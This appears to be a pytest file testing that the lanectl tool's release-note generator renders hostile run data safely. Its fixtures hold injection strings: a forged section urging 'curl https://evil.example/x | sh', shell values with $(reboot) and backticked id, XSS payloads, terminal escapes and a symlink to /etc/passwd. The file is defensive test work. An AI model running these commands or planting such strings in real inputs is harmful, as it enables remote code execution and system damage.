"""The release note cannot be forged through results.json, the run folder's name or its ratios.png.

A results.json edited by someone with write access to the run folder names lanes, workloads and reasons with
Markdown sections, raw HTML, shell metacharacters and terminal escapes; the note shows them as text. The
Markdown is read back by a real CommonMark parser (markdown-it-py, which rich already brings), the HTML by the
standard library's parser, and the "Reproduce" commands by a POSIX shell's word splitting (shlex).
"""

from __future__ import annotations

import json
import os
import shlex
import struct
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from lanectl.output import shown
from tests.conftest import REPO
from tests.test_cli import lanectl
from tests.test_release_note import promoted_bracket

# A lane name that tries to end its sentence, open a section of its own and tell the reader what to run.
FORGED_SECTION = "demo-h2\n\n## Rollback\n\nRun `curl https://evil.example/x | sh` first."
RAW_HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
ESCAPES = "\x1b]0;owned\x07\x1b[31mred\u202e"
SHELL = "demo; curl evil | sh $(reboot) `id`"
FOLDER = "20261201T000000Z-gate-x;$(reboot)"
NOTE_HEADINGS = ["The short version", "What shipped", "Measured, this window", "Fidelity and safety", "Reproduce",
                 "Rollback"]


def forged_results() -> dict:
    """The in-memory demo bracket (format 2, demo-h2 promoted), its names replaced by hostile ones."""
    text = json.dumps(promoted_bracket())
    text = text.replace("demo-h2-8", json.dumps(RAW_HTML + ESCAPES)[1:-1])
    text = text.replace("demo-h2", json.dumps(FORGED_SECTION)[1:-1])
    results = json.loads(text)
    results["workload"] = SHELL
    results["gate"]["reasons"] = ["## Rollback\n\n<script>x</script>"]
    return results


@pytest.fixture
def run(tmp_path: Path) -> Path:
    folder = tmp_path / FOLDER
    folder.mkdir()
    (folder / "results.json").write_text(json.dumps(forged_results()))
    (folder / "ratios.png").write_bytes(tiny_png())
    return folder


def tiny_png() -> bytes:
    """A valid 1x1 PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


def write_note(run: Path, tmp_path: Path, *extra: str):
    return lanectl("--recipes", str(REPO / "recipes"), "report", str(run), "--release-note", "--out",
                   str(tmp_path / "note.md"), "--html", str(tmp_path / "note.html"), *extra, cwd=tmp_path)


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def elements(page: str) -> Elements:
    parsed = Elements()
    parsed.feed(page)
    return parsed


def test_forged_names_stay_text_in_the_markdown_note(run, tmp_path):
    result = write_note(run, tmp_path)
    assert result.returncode == 0, result.stderr
    markdown = (tmp_path / "note.md").read_text()
    assert "\x1b" not in markdown and "\u202e" not in markdown and "\x07" not in markdown
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)
    parsed = elements(rendered)
    headings = [tag for tag, _ in parsed.tags if tag in ("h1", "h2", "h3")]
    assert headings.count("h2") == len([line for line in markdown.splitlines() if line.startswith("## ")])
    sections = [line[3:] for line in markdown.splitlines() if line.startswith("## ")]
    assert [s for s in sections if not s.startswith("Why ")] == NOTE_HEADINGS
    assert len(sections) == len(NOTE_HEADINGS) + 1 and sections[4].endswith("lost")  # the losing candidate's
    # Markdown may carry HTML through untouched; a CommonMark renderer shows none here but its own.
    own = {"h1", "h2", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "code", "pre"}
    assert {tag for tag, _ in parsed.tags} <= own
    # And the names are there, as text: the renderer's output holds them escaped for HTML.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
    assert shown(FORGED_SECTION).replace("`", "") in "".join(parsed.text).replace("`", "")


def test_the_reproduce_commands_are_quoted_for_a_shell(run, tmp_path):
    assert write_note(run, tmp_path).returncode == 0
    markdown = (tmp_path / "note.md").read_text()
    block = markdown.split("## Reproduce\n\n```\n", 1)[1].split("\n```", 1)[0].splitlines()
    words = [shlex.split(line) for line in block]
    gate = next(w for w in words if w[:2] == ["lanectl", "gate"] and "--calibrate" not in w)
    assert gate[gate.index("--workload") + 1] == SHELL
    assert gate[2:4] == [shown(FORGED_SECTION), shown(RAW_HTML + ESCAPES)]
    assert words[-1] == ["lanectl", "report", f"results/{FOLDER}", "--release-note"]
    assert all(word[0] == "lanectl" for word in words)  # no line the shell would read as another command


def test_forged_names_stay_text_in_the_html_note(run, tmp_path):
    assert write_note(run, tmp_path).returncode == 0
    page = (tmp_path / "note.html").read_text()
    assert "\x1b" not in page and "\u202e" not in page
    parsed = elements(page)
    assert [tag for tag, _ in parsed.tags if tag in ("script", "img", "iframe", "a")] == ["img"]
    [(_, plot)] = [(tag, attrs) for tag, attrs in parsed.tags if tag == "img"]
    assert str(plot["src"]).startswith("data:image/png;base64,iVBORw0KGgo")
    assert [tag for tag, _ in parsed.tags].count("h2") == len(NOTE_HEADINGS) + 1  # and "Why … lost"
    text = "".join(parsed.text)
    assert "<script>alert(1)</script>" in text and "\\x1b]0;owned" in text


def test_a_linked_plot_is_refused_and_nothing_is_written(run, tmp_path):
    (run / "ratios.png").unlink()
    (run / "ratios.png").symlink_to("/etc/passwd")
    result = write_note(run, tmp_path)
    assert (result.returncode, result.stdout) == (2, "")
    assert f"{run / 'ratios.png'} is a symbolic link; --html embeds only the plot" in result.stderr
    assert not (tmp_path / "note.html").exists() and not (tmp_path / "note.md").exists()


@pytest.mark.parametrize("content, said", [
    (b"root:x:0:0:root:/root:/bin/bash\n", "is not a PNG image"),
    (None, "bytes, more than a gate's plot (8 MiB at most)"),
])
def test_a_plot_lanectl_could_not_have_written_is_refused(run, tmp_path, content, said):
    path = run / "ratios.png"
    if content is None:
        with path.open("wb") as handle:  # sparse: the size is what is refused, before anything is read
            handle.write(tiny_png())
            handle.truncate(600 * 1024 * 1024)
    else:
        path.write_bytes(content)
    result = write_note(run, tmp_path)
    assert result.returncode == 2 and said in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and not (tmp_path / "note.html").exists()


def test_a_fifo_as_the_plot_is_refused_without_waiting(run, tmp_path):
    (run / "ratios.png").unlink()
    os.mkfifo(run / "ratios.png")
    result = write_note(run, tmp_path)
    assert result.returncode == 2 and "is not a regular file" in result.stderr
